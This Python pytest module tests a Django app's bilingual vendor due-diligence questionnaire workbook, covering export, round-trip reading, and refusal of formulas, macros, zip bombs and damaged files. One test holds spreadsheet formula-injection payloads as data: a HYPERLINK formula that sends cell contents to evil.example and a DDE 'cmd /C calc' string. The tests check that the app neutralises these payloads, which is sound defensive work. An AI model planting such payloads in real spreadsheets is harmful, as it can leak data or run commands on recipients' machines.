"""The questionnaire workbook: download, fill in with openpyxl, read back; and every way a file is refused."""

import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import load_workbook

from assessments.excel import (
    Problem,
    QuestionnaireInvalid,
    questionnaire_workbook,
    read_questionnaire,
    validate_workbook_upload,
)
from assessments.models import Answer, Assessment, Criterion, Standard
from assessments.selectors import answers_version
from assessments.services import (
    answer_save,
    assessment_create,
    assessment_import_questionnaire,
    current_standard,
)
from core import validators
from core.roles import PROCUREMENT
from vendors.models import Vendor

from ..factories import UserFactory, VendorFactory

pytestmark = pytest.mark.django_db

HEADERS = [
    "Code",
    "Category",
    "Question (English)",
    "質問（日本語）",
    "Guidance",
    "Evidence needed",
    "Critical",
    "Answer",
    "Comment",
]
CODE, ANSWER, COMMENT = 1, 8, 9
LABELS = ["Yes", "Partially", "No", "Not applicable", "はい", "一部", "いいえ", "該当なし"]


# --- helpers ---------------------------------------------------------------------------------------------


@pytest.fixture
def preparer():
    return UserFactory(roles=[PROCUREMENT])


@pytest.fixture
def assessment(preparer):
    """A draft against the seeded standard for a domestic vendor with no system access or sensitive data."""
    return assessment_create(vendor=VendorFactory(), user=preparer)


def codes_of(assessment: Assessment) -> list[str]:
    return list(
        assessment.answers.order_by("criterion__position", "criterion__code").values_list(
            "criterion__code", flat=True
        )
    )


def download(assessment: Assessment):
    return load_workbook(io.BytesIO(questionnaire_workbook(assessment)))


def row_of(ws, code: str) -> int:
    for row in range(2, ws.max_row + 1):
        if ws.cell(row, CODE).value == code:
            return row
    raise AssertionError(f"{code} is not in the sheet")


def fill(workbook, answers: dict[str, tuple[str | None, str | None]]):
    ws = workbook["Questionnaire"]
    for code, (answer, comment) in answers.items():
        row = row_of(ws, code)
        ws.cell(row, ANSWER).value = answer
        ws.cell(row, COMMENT).value = comment
    return workbook


def as_upload(workbook, name: str = "questionnaire.xlsx") -> SimpleUploadedFile:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def problems_reading(assessment: Assessment, file) -> list[Problem]:
    with pytest.raises(QuestionnaireInvalid) as raised:
        read_questionnaire(assessment=assessment, file=file)
    assert raised.value.messages == [str(problem) for problem in raised.value.problems]
    return raised.value.problems


def rezip(
    data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """The same zip with some members replaced or added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


# --- the downloaded workbook ----------------------------------------------------------------------------


def test_sheets_and_hidden_identification(assessment):
    workbook = download(assessment)
    standard = current_standard()

    assert workbook.sheetnames == ["Instructions", "Questionnaire", "_meta"]
    assert workbook.active.title == "Instructions"  # read first
    meta = workbook["_meta"]
    assert meta.sheet_state in ("veryHidden", "hidden")
    assert {meta.cell(row, 1).value: meta.cell(row, 2).value for row in range(1, meta.max_row + 1)} == {
        "format_version": 1,
        "assessment_id": assessment.pk,
        "standard_id": standard.pk,
        "standard_name": standard.name,
        "standard_version": standard.version,
        "answers_version": answers_version(assessment),
    }
    assert workbook.security.lockStructure


def test_one_row_per_applicable_criterion_in_position_order(assessment):
    ws = download(assessment)["Questionnaire"]
    codes = [ws.cell(row, CODE).value for row in range(2, ws.max_row + 1)]

    assert [cell.value for cell in ws[1]] == HEADERS
    assert codes == codes_of(assessment)
    assert len(codes) == Criterion.objects.filter(standard=assessment.standard, applies_when="always").count()
    assert not [code for code in codes if code.startswith("EXT-")]
    assert "ORG-03" not in codes and "TEC-07" not in codes  # system access, special-care data


def test_a_vendor_handling_data_abroad_gets_the_external_environment_rows(preparer):
    abroad = assessment_create(vendor=VendorFactory(handles_data_abroad=True), user=preparer)
    ws = download(abroad)["Questionnaire"]
    codes = [ws.cell(row, CODE).value for row in range(2, ws.max_row + 1)]

    assert [code for code in codes if code.startswith("EXT-")] == ["EXT-01", "EXT-02", "EXT-03"]
    assert codes == codes_of(abroad)


def test_row_content(assessment):
    ws = download(assessment)["Questionnaire"]
    row = row_of(ws, "ORG-06")
    criterion = assessment.standard.criteria.get(code="ORG-06")

    assert [ws.cell(row, column).value for column in range(1, 10)] == [
        "ORG-06",
        "Organizational measures (10-3)",
        criterion.question_en,
        criterion.question_ja,
        criterion.guidance,
        "Yes",  # evidence required
        "Yes",  # critical
        None,
        None,
    ]
    not_critical = row_of(ws, "HND-02")
    assert ws.cell(not_critical, 6).value == "No" and ws.cell(not_critical, 7).value == "No"


def test_answer_column_offers_the_eight_labels(assessment):
    ws = download(assessment)["Questionnaire"]
    validations = ws.data_validations.dataValidation

    assert len(validations) == 1
    validation = validations[0]
    assert validation.type == "list"
    assert str(validation.sqref) == f"H2:H{ws.max_row}"
    assert validation.formula1.strip('"').split(",") == LABELS
    assert validation.allow_blank and validation.showErrorMessage


def test_only_answer_and_comment_cells_can_be_edited(assessment):
    workbook = download(assessment)
    ws = workbook["Questionnaire"]

    for sheet in workbook.worksheets:
        assert sheet.protection.sheet, sheet.title
    assert ws.protection.formatColumns is False  # False: formatting columns is allowed
    for row in ws.iter_rows(min_row=1, max_row=ws.max_row):
        for cell in row:
            editable = cell.row > 1 and cell.column in (ANSWER, COMMENT)
            assert cell.protection.locked is not editable, cell.coordinate
    assert all(cell.font.bold for cell in ws[1])
    assert ws.freeze_panes == "B2"
    assert ws["C2"].alignment.wrap_text
    assert ws.column_dimensions["C"].width >= 40 and ws.column_dimensions["I"].width >= 30


def test_instructions_in_english_and_japanese(assessment):
    ws = download(assessment)["Instructions"]
    text = "\n".join(str(cell.value) for row in ws.iter_rows() for cell in row if cell.value)
    standard = assessment.standard

    assert assessment.vendor.name in text
    assert f"{standard.name}, version {standard.version}" in text
    for pair in ("Yes / はい", "Partially / 一部", "No / いいえ", "Not applicable / 該当なし"):
        assert pair in text
    assert "cannot be answered “Not applicable”" in text and "「該当なし」で回答できません" in text
    assert "upload the files on the assessment's web page" in text
    assert "Webページ" in text


def test_existing_answers_are_prefilled_with_english_labels(assessment, preparer):
    answer = assessment.answers.get(criterion__code="ORG-01")
    answer.response, answer.comment = Answer.Response.PARTIAL, "Appointed in April; chart pending."
    answer_save(answer=answer, user=preparer)
    answer = assessment.answers.get(criterion__code="CON-02")
    answer.response = Answer.Response.NA
    answer_save(answer=answer, user=preparer)

    ws = download(assessment)["Questionnaire"]

    row = row_of(ws, "ORG-01")
    assert (ws.cell(row, ANSWER).value, ws.cell(row, COMMENT).value) == (
        "Partially",
        "Appointed in April; chart pending.",
    )
    assert ws.cell(row_of(ws, "CON-02"), ANSWER).value == "Not applicable"
    assert ws.cell(row_of(ws, "BAS-01"), ANSWER).value is None


def test_text_that_looks_like_a_formula_is_written_as_text(preparer):
    Criterion.objects.filter(code="BAS-01").update(
        question_en='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        question_ja="+81 3 1234 5678",
        guidance="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    Criterion.objects.filter(code="HND-02").update(guidance="\t=1+1", question_ja="-1+2")
    vendor = VendorFactory(name="=cmd|' /C calc'!A0")
    assessment = assessment_create(vendor=vendor, user=preparer)
    answer = assessment.answers.get(criterion__code="HND-01")
    answer.comment = "=2+3 (our KPI formula)"
    answer_save(answer=answer, user=preparer)

    data = questionnaire_workbook(assessment)
    workbook = load_workbook(io.BytesIO(data))
    ws = workbook["Questionnaire"]

    row = row_of(ws, "BAS-01")
    for column, expected in (
        (3, '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        (4, "+81 3 1234 5678"),
        (5, "@SUM(1+1)*cmd|' /C calc'!A0"),
    ):
        cell = ws.cell(row, column)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
    row = row_of(ws, "HND-02")
    assert ws.cell(row, 5).data_type == "s" and ws.cell(row, 5).quotePrefix
    assert ws.cell(row, 4).data_type == "s" and ws.cell(row, 4).quotePrefix
    comment = ws.cell(row_of(ws, "HND-01"), COMMENT)
    assert (comment.value, comment.data_type) == ("=2+3 (our KPI formula)", "s")
    names = [
        cell for row in workbook["Instructions"].iter_rows() for cell in row if cell.value == vendor.name
    ]
    assert names and all(cell.data_type == "s" for cell in names)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name

    # ... and the comment comes back as it was, without an added apostrophe
    assert read_questionnaire(assessment=assessment, file=io.BytesIO(data))["HND-01"] == (
        "",
        "=2+3 (our KPI formula)",
    )


# --- the round trip -------------------------------------------------------------------------------------


def test_round_trip_returns_exactly_what_was_filled(assessment):
    filled = {
        "BAS-01": ("Yes", "Policy: https://example.com/privacy"),
        "HND-01": ("はい", "取扱規程を添付します。"),
        "HND-02": ("  partially ", None),
        "ORG-01": ("一部", "責任者は任命済み、組織図は作成中"),
        "ORG-02": ("NO", "Planned for Q3."),
        "ORG-04": ("該当なし", "媒体を使用しません。"),
        "ORG-06": ("いいえ", None),
        "CON-02": ("na", None),
        "CON-03": (None, "Will confirm with legal."),
    }
    upload = as_upload(fill(download(assessment), filled))

    answers = read_questionnaire(assessment=assessment, file=upload)

    expected = dict.fromkeys(codes_of(assessment), ("", ""))
    expected.update(
        {
            "BAS-01": ("yes", "Policy: https://example.com/privacy"),
            "HND-01": ("yes", "取扱規程を添付します。"),
            "HND-02": ("partial", ""),
            "ORG-01": ("partial", "責任者は任命済み、組織図は作成中"),
            "ORG-02": ("no", "Planned for Q3."),
            "ORG-04": ("na", "媒体を使用しません。"),
            "ORG-06": ("no", ""),
            "CON-02": ("na", ""),
            "CON-03": ("", "Will confirm with legal."),
        }
    )
    assert answers == expected


def test_reads_a_plain_file_object_too(assessment):
    workbook = fill(download(assessment), {"TEC-01": ("Not applicable ", None), "TEC-03": ("Yes", "MFA")})
    workbook["Questionnaire"].cell(row_of(workbook["Questionnaire"], "TEC-01"), ANSWER).value = "No"
    buffer = io.BytesIO()
    workbook.save(buffer)

    answers = read_questionnaire(assessment=assessment, file=buffer)

    assert answers["TEC-01"] == ("no", "") and answers["TEC-03"] == ("yes", "MFA")


def test_an_applicable_criterion_missing_from_the_sheet_is_left_out(assessment):
    workbook = fill(download(assessment), {"BAS-01": ("Yes", "")})
    ws = workbook["Questionnaire"]
    ws.delete_rows(row_of(ws, "HND-02"))

    answers = read_questionnaire(assessment=assessment, file=as_upload(workbook))

    assert "HND-02" not in answers
    assert set(answers) == set(codes_of(assessment)) - {"HND-02"}
    assert answers["BAS-01"] == ("yes", "")


def test_the_bad_response_message(assessment):
    workbook = fill(download(assessment), {"ORG-04": ("maybe", "")})
    assert row_of(workbook["Questionnaire"], "ORG-04") == 7

    problems = problems_reading(assessment, as_upload(workbook))

    assert [str(problem) for problem in problems] == [
        "Questionnaire, row 7, column Answer: “maybe” is not one of Yes, Partially, No, Not applicable "
        "(はい, 一部, いいえ, 該当なし)."
    ]
    assert problems[0] == Problem(
        "Questionnaire",
        7,
        "Answer",
        "“maybe” is not one of Yes, Partially, No, Not applicable (はい, 一部, いいえ, 該当なし).",
    )


def _wrong_assessment(workbook, ws):
    workbook["_meta"]["B2"] = 999_999
    return ("_meta", 2, "B", "belongs to assessment 999999, not to this assessment")


def _other_standard_version(workbook, ws):
    workbook["_meta"]["B5"] = 2
    return ("_meta", 5, "B", "another version of the standard")


def _unknown_code(workbook, ws):
    row = row_of(ws, "HND-02")
    ws.cell(row, CODE).value = "XXX-99"
    return ("Questionnaire", row, "Code", "“XXX-99” is not a criterion of Vendor due-diligence standard v1.")


def _duplicate_code(workbook, ws):
    row = row_of(ws, "HND-02")
    ws.cell(row, CODE).value = "HND-01"
    return ("Questionnaire", row, "Code", f"HND-01 appears already in row {row - 1}.")


def _bad_response(workbook, ws):
    row = row_of(ws, "PER-01")
    ws.cell(row, ANSWER).value = "Mostly"
    return ("Questionnaire", row, "Answer", "“Mostly” is not one of Yes, Partially, No, Not applicable")


def _na_on_critical(workbook, ws):
    row = row_of(ws, "ORG-06")
    ws.cell(row, ANSWER).value = "該当なし"
    return ("Questionnaire", row, "Answer", "ORG-06 is critical: “Not applicable” (該当なし) is not accepted")


def _formula_in_answer(workbook, ws):
    row = row_of(ws, "TEC-01")
    ws.cell(row, ANSWER).value = '=IF(TRUE,"Yes","No")'
    return ("Questionnaire", row, "Answer", "holds a formula")


def _formula_in_comment(workbook, ws):
    row = row_of(ws, "TEC-02")
    ws.cell(row, COMMENT).value = '=HYPERLINK("http://evil.example","x")'
    return ("Questionnaire", row, "Comment", "holds a formula")


def _criterion_not_applying(workbook, ws):
    row = ws.max_row + 1
    ws.cell(row, CODE).value = "EXT-01"
    ws.cell(row, ANSWER).value = "Yes"
    return ("Questionnaire", row, "Code", "EXT-01 does not apply to this vendor")


def _row_without_code(workbook, ws):
    row = ws.max_row + 2
    ws.cell(row, ANSWER).value = "Yes"
    return ("Questionnaire", row, "Code", "no code")


def _header_changed(workbook, ws):
    ws["H1"] = "Response"
    return ("Questionnaire", 1, "H", "expected “Answer”, found “Response”")


def _missing_questionnaire(workbook, ws):
    del workbook["Questionnaire"]
    return ("Questionnaire", None, None, "The sheet is missing")


def _missing_meta(workbook, ws):
    del workbook["_meta"]
    return ("_meta", None, None, "The sheet is missing")


@pytest.mark.parametrize(
    "spoil",
    [
        _wrong_assessment,
        _other_standard_version,
        _unknown_code,
        _duplicate_code,
        _bad_response,
        _na_on_critical,
        _formula_in_answer,
        _formula_in_comment,
        _criterion_not_applying,
        _row_without_code,
        _header_changed,
        _missing_questionnaire,
        _missing_meta,
    ],
    ids=lambda spoil: spoil.__name__.strip("_"),
)
def test_a_spoilt_workbook_is_refused_with_the_place_of_the_problem(assessment, spoil):
    workbook = fill(download(assessment), {"BAS-01": ("Yes", "fine")})
    sheet, row, column, reason = spoil(workbook, workbook["Questionnaire"])

    problems = problems_reading(assessment, as_upload(workbook))

    assert len(problems) == 1, problems
    assert (problems[0].sheet, problems[0].row, problems[0].column) == (sheet, row, column)
    assert reason in problems[0].reason
    where = ", ".join(
        part for part in (sheet, f"row {row}" if row else "", f"column {column}" if column else "") if part
    )
    assert str(problems[0]).startswith(f"{where}: ")


def test_every_problem_is_listed_at_once(assessment):
    workbook = fill(
        download(assessment),
        {
            "BAS-01": ("maybe", ""),
            "ORG-06": ("Not applicable", ""),
            "TEC-01": ("=1", ""),
            "CON-01": ("Yes", ""),
        },
    )
    workbook["_meta"]["B2"] = assessment.pk + 1
    ws = workbook["Questionnaire"]
    ws.cell(row_of(ws, "HND-02"), CODE).value = "NOPE"

    problems = problems_reading(assessment, as_upload(workbook))

    assert [(problem.sheet, problem.row, problem.column) for problem in problems] == [
        ("_meta", 2, "B"),
        ("Questionnaire", row_of(ws, "BAS-01"), "Answer"),
        ("Questionnaire", row_of(ws, "NOPE"), "Code"),
        ("Questionnaire", row_of(ws, "ORG-06"), "Answer"),
        ("Questionnaire", row_of(ws, "TEC-01"), "Answer"),
    ]


def test_the_cached_result_of_a_formula_is_not_read(assessment):
    """Excel stores a formula's last result next to it; reading that result would accept a formula."""
    workbook = download(assessment)
    ws = workbook["Questionnaire"]
    row = row_of(ws, "TEC-01")
    ws.cell(row, ANSWER).value = '=IF(TRUE,"Yes","No")'
    data = as_upload(workbook).read()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml")
    cached, count = re.subn(
        rb'<c r="H%d"([^>]*)><f>(.*?)</f><v\s*/>' % row,
        rb'<c r="H%d"\1 t="str"><f>\2</f><v>Yes</v>' % row,
        sheet,
    )
    assert count == 1
    data = rezip(data, replace={"xl/worksheets/sheet2.xml": cached})
    assert load_workbook(io.BytesIO(data), data_only=True)["Questionnaire"].cell(row, ANSWER).value == "Yes"

    problems = problems_reading(assessment, SimpleUploadedFile("questionnaire.xlsx", data))

    assert [(p.row, p.column) for p in problems] == [(row, "Answer")]
    assert "formula" in problems[0].reason


def test_a_submitted_assessment_is_not_changed_by_a_workbook(assessment):
    upload = as_upload(download(assessment))
    Assessment.objects.filter(pk=assessment.pk).update(status=Assessment.Status.SUBMITTED)

    problems = problems_reading(assessment, upload)

    assert [str(problem) for problem in problems] == [
        "Only a draft or returned assessment can be changed; this one is submitted for review."
    ]


def test_a_workbook_of_another_standard_version_is_refused(assessment, preparer):
    """Same code list, another version: the answers would be scored against other weights."""
    other = Standard.objects.create(name="Another standard", version=3, status=Standard.Status.PUBLISHED)
    for criterion in assessment.standard.criteria.all():
        criterion.pk, criterion.standard = None, other
        criterion.save()
    other_assessment = assessment_create(vendor=assessment.vendor, user=preparer, standard=other)

    problems = problems_reading(assessment, as_upload(download(other_assessment)))

    assert {(p.sheet, p.row) for p in problems} == {("_meta", 2), ("_meta", 3), ("_meta", 4), ("_meta", 5)}


# --- the upload itself ---------------------------------------------------------------------------------


@pytest.fixture
def workbook_bytes(assessment) -> bytes:
    return questionnaire_workbook(assessment)


def refused(file) -> str:
    with pytest.raises(ValidationError) as raised:
        validate_workbook_upload(file)
    assert len(raised.value.messages) == 1
    return raised.value.messages[0]


def test_the_downloaded_workbook_is_a_valid_upload(workbook_bytes):
    assert validate_workbook_upload(SimpleUploadedFile("Questionnaire.XLSX", workbook_bytes)) is None
    assert validate_workbook_upload(io.BytesIO(workbook_bytes)) is None


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda data: SimpleUploadedFile("q.xlsx", b"name,answer\nBAS-01,yes\n"), "not an Excel workbook"),
        (lambda data: SimpleUploadedFile("q.csv", data), "Only Excel workbooks (.xlsx) are accepted"),
        (lambda data: SimpleUploadedFile("q.xlsm", data), "Macro-enabled workbooks"),
        (
            lambda data: SimpleUploadedFile("q.xlsx", rezip(data, add={"xl/vbaProject.bin": b"\x00" * 64})),
            "Macro-enabled workbooks",
        ),
        (
            lambda data: SimpleUploadedFile(
                "q.xlsx",
                rezip(
                    data,
                    replace={
                        "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(data))
                        .read("[Content_Types].xml")
                        .replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
                    },
                ),
            ),
            "Macro-enabled workbooks",
        ),
        (
            lambda data: SimpleUploadedFile("q.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
            "old-format Excel workbook (.xls) or is protected with a password",
        ),
        (
            lambda data: SimpleUploadedFile("q.xlsx", rezip(docx_like())),
            "not an Excel workbook",
        ),
        (
            lambda data: SimpleUploadedFile(
                "q.xlsx", rezip(data, add={"xl/worksheets/sheet9.xml": b"<row/>" * 4_000_000})
            ),
            "would take too much space once unpacked (xl/worksheets/sheet9.xml)",
        ),
    ],
    ids=[
        "not-a-zip",
        "csv-name",
        "xlsm-name",
        "vba-project",
        "macro-content-type",
        "ole",
        "docx",
        "zip-bomb",
    ],
)
def test_a_bad_upload_is_refused(workbook_bytes, assessment, make, message):
    assert message in refused(make(workbook_bytes))
    problems = problems_reading(assessment, make(workbook_bytes))
    assert len(problems) == 1 and message in str(problems[0])
    assert (problems[0].sheet, problems[0].row, problems[0].column) == ("", None, None)


def docx_like() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return out.getvalue()


def test_zip_bomb_is_refused_on_the_total_unpacked_size(workbook_bytes, monkeypatch):
    monkeypatch.setattr(validators, "MAX_UNCOMPRESSED_BYTES", 2_000)
    assert "too much space once unpacked" in refused(SimpleUploadedFile("q.xlsx", workbook_bytes))


@override_settings(MAX_WORKBOOK_BYTES=1024)
def test_an_upload_over_the_size_limit_is_refused(workbook_bytes, assessment):
    message = refused(SimpleUploadedFile("q.xlsx", workbook_bytes))
    assert message.startswith("The file is ") and message.endswith("workbooks may be at most 1.0\xa0KB.")
    problems = problems_reading(assessment, SimpleUploadedFile("q.xlsx", workbook_bytes))
    assert "workbooks may be at most" in problems[0].reason


def test_a_damaged_workbook_is_refused(workbook_bytes, assessment):
    data = rezip(workbook_bytes, replace={"xl/workbook.xml": b"<not-closed"})
    problems = problems_reading(assessment, SimpleUploadedFile("q.xlsx", data))
    assert [str(problem) for problem in problems] == [
        "The workbook could not be opened: it is damaged or not an Excel workbook."
    ]


def test_vendor_fixture_applies_no_optional_criteria(assessment):
    vendor = Vendor.objects.get(pk=assessment.vendor_id)
    assert not (vendor.handles_data_abroad or vendor.has_system_access or vendor.handles_special_care_data)


# --- lost updates: the workbook carries the answers' version it was downloaded at -------------------------


def answer_in_the_browser(assessment: Assessment, code: str, response: str, user) -> None:
    answer = assessment.answers.get(criterion__code=code)
    answer.response = response
    answer_save(answer=answer, user=user)


def test_a_workbook_downloaded_before_someone_else_changed_an_answer_is_refused(assessment, preparer):
    workbook = fill(download(assessment), {"HND-02": ("No", None), "BAS-01": ("Yes", None)})
    colleague = UserFactory(username="colleague", first_name="Kenji", last_name="Sato", roles=[PROCUREMENT])
    answer_in_the_browser(assessment, "HND-02", "yes", colleague)

    with pytest.raises(ValidationError, match=r"changed by Kenji Sato at .*: nothing was imported"):
        assessment_import_questionnaire(assessment=assessment, user=preparer, file=as_upload(workbook))

    stored = dict(assessment.answers.values_list("criterion__code", "response"))
    assert (stored["HND-02"], stored["BAS-01"]) == ("yes", "")


def test_ones_own_changes_since_the_download_do_not_refuse_it(assessment, preparer):
    workbook = fill(download(assessment), {"HND-02": ("No", None)})
    answer_in_the_browser(assessment, "BAS-01", "yes", preparer)
    assessment_import_questionnaire(assessment=assessment, user=preparer, file=as_upload(workbook))
    # Uploading the same file again after a first import (e.g. to correct it) is not a conflict either.
    assessment_import_questionnaire(assessment=assessment, user=preparer, file=as_upload(workbook))
    assert assessment.answers.get(criterion__code="HND-02").response == "no"


def test_a_workbook_made_before_it_carried_the_version_is_imported(assessment, preparer):
    workbook = fill(download(assessment), {"HND-02": ("No", None)})
    meta = workbook["_meta"]
    for row in meta.iter_rows(max_col=2):
        if row[0].value == "answers_version":
            row[0].value = row[1].value = None
    answer_in_the_browser(assessment, "BAS-01", "yes", UserFactory(roles=[PROCUREMENT]))
    assessment_import_questionnaire(assessment=assessment, user=preparer, file=as_upload(workbook))
    assert assessment.answers.get(criterion__code="HND-02").response == "no"


def test_a_workbook_with_a_garbled_version_is_refused_once_someone_else_changed_an_answer(
    assessment, preparer
):
    workbook = fill(download(assessment), {"HND-02": ("No", None)})
    for row in workbook["_meta"].iter_rows(max_col=2):
        if row[0].value == "answers_version":
            row[1].value = "not a number"
    answer_in_the_browser(assessment, "BAS-01", "yes", UserFactory(roles=[PROCUREMENT]))
    with pytest.raises(ValidationError, match="nothing was imported"):
        assessment_import_questionnaire(assessment=assessment, user=preparer, file=as_upload(workbook))
    assert assessment.answers.get(criterion__code="HND-02").response == ""
